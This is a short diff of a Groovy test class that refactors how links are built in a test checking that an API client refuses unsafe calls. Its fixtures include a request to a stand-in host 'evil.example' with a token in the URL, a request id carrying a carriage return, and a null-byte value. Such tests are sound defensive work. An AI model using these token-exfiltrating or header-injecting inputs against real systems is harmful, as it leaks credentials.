@@ -84,8 +84,8 @@ class LoggedCalls {
     private void refusals() {
         def client = builder('http://127.0.0.1:1').build()
         client.withCloseable {
-            tell { client.follow(new Link("http://evil.example/$TOKEN", 'GET', [], null), OrderLineItemProvisioningStatusCollection) }
-            tell { client.follow(new Link('/v1/x', 'GET', [new KeyValuePair('Authorization', TOKEN)], TOKEN), OrderLineItemProvisioningStatusCollection) }
+            tell { client.follow(Link.builder().uri("http://evil.example/$TOKEN").method('GET').build(), OrderLineItemProvisioningStatusCollection) }
+            tell { client.follow(Link.builder().uri('/v1/x').method('GET').headers([KeyValuePair.builder().key('Authorization').value(TOKEN).build()]).body(TOKEN).build(), OrderLineItemProvisioningStatusCollection) }
             tell { client.with({ o -> o.requestId(TOKEN + '\r') } as UnaryOperator<CallOptions>) }
             tell { client.orders().getProvisioningStatus(TOKEN, 'x') }
             tell { client.orders().getProvisioningStatus(Literals.CUSTOMER, TOKEN + '\u0000') }
